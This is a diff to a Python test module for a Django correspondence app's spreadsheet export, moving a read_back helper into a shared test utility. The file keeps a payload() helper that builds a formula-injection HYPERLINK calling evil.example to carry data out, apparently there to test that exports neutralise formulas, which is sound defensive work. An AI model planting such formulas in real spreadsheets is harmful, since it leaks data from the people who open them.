@@ -18,7 +18,7 @@ from openpyxl.worksheet.worksheet import Worksheet
 
 from correspondence.models import Correspondent, Document, Recipient
 from tests.correspondence.test_journals import journal_url, make_document, pinned  # noqa: F401 - a fixture
-from tests.spreadsheets import table_cells
+from tests.spreadsheets import read_back, table_cells
 
 pytestmark = pytest.mark.django_db
 
@@ -27,11 +27,6 @@ FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r"]
 
 def payload(start: str, what: str) -> str:
     return f'{start}HYPERLINK("https://evil.example/?{what}","open")'
-
-
-def read_back(text: str) -> str:
-    """What openpyxl reads back from a string cell: a carriage return is a line feed in XML."""
-    return text.replace("\r", "\n")
 
 
 def by_header(sheet: Worksheet, text: str) -> dict[str, Cell]:
